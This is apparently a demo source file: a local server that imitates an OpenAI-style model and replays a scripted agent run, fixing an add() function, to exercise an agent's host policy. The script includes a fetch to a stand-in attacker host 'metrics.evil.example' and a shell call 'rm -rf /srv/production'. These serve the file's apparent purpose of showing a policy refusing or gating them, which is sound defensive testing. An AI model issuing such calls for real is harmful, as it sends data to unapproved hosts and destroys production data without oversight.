/**
 * The demo's model: a local HTTP server that answers the OpenAI chat format from a script, so that
 * the demo needs no account and no network. What it "thinks" is fixed; what then happens is real.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';

interface ToolCall {
  readonly id: string;
  readonly type: 'function';
  readonly function: { readonly name: string; readonly arguments: string };
}

interface Step {
  readonly content: string;
  readonly calls: readonly ToolCall[];
}

const call = (id: string, name: string, args: Record<string, unknown>): ToolCall => ({
  id,
  type: 'function',
  function: { name, arguments: JSON.stringify(args) },
});

const PATCHED = 'export const add = (a, b) => a + b;\n';
const TEST = `import { add } from './add.mjs';
if (add(2, 3) !== 5) { console.error('add(2, 3) is', add(2, 3)); process.exit(1); }
console.log('ok');
`;

/** The script: `allowed` is the URL of a host that the agent's policy allows. */
function script(allowed: string): readonly Step[] {
  const node = JSON.stringify(process.execPath);
  return [
    {
      content: 'I will look at the code and run its test first.',
      calls: [
        call('call_1', 'shell', { command: 'ls -la && cat add.mjs' }),
        call('call_2', 'write_file', { path: 'add.test.mjs', content: TEST }),
      ],
    },
    { content: '', calls: [call('call_3', 'shell', { command: `${node} add.test.mjs` })] },
    {
      content: 'The test fails: add() subtracts. I will mend it and run the test again.',
      calls: [call('call_4', 'write_file', { path: 'add.mjs', content: PATCHED })],
    },
    {
      content: '',
      calls: [
        call('call_5', 'shell', { command: `${node} add.test.mjs > result.txt && cat result.txt` }),
        call('call_6', 'shell', {
          command: 'for i in 1 2 3; do (echo part $i > part-$i.txt) & done; wait; rm part-*.txt',
        }),
      ],
    },
    {
      content: 'Now I report the result to the build server, and to a metrics host.',
      calls: [
        call('call_7', 'fetch', { url: allowed }),
        call('call_8', 'fetch', { url: 'http://metrics.evil.example/collect?repo=demo' }),
        call('call_9', 'shell', { command: 'rm -rf /srv/production', ask: true }),
      ],
    },
    { content: 'add() is mended and its test passes. The metrics host was refused.', calls: [] },
  ];
}

export interface LocalServer {
  readonly url: string;
  close(): Promise<void>;
}

async function serve(handler: http.RequestListener): Promise<LocalServer> {
  const server = http.createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Starts the scripted model. */
export function startModel(allowed: string): Promise<LocalServer> {
  const steps = script(allowed);
  let next = 0;
  return serve((request, response) => {
    request.resume();
    request.on('end', () => {
      const step = steps[Math.min(next++, steps.length - 1)] as Step;
      const body = {
        id: `chatcmpl-demo-${next}`,
        model: 'demo-model',
        choices: [
          {
            finish_reason: step.calls.length > 0 ? 'tool_calls' : 'stop',
            message: { role: 'assistant', content: step.content, tool_calls: step.calls },
          },
        ],
        usage: { prompt_tokens: 200 + next * 40, completion_tokens: 20 + step.calls.length * 15 },
      };
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify(body));
    });
  });
}

/** Starts the host that the agent's policy allows. */
export function startAllowedHost(): Promise<LocalServer> {
  return serve((_request, response) => response.end('thank you\n'));
}
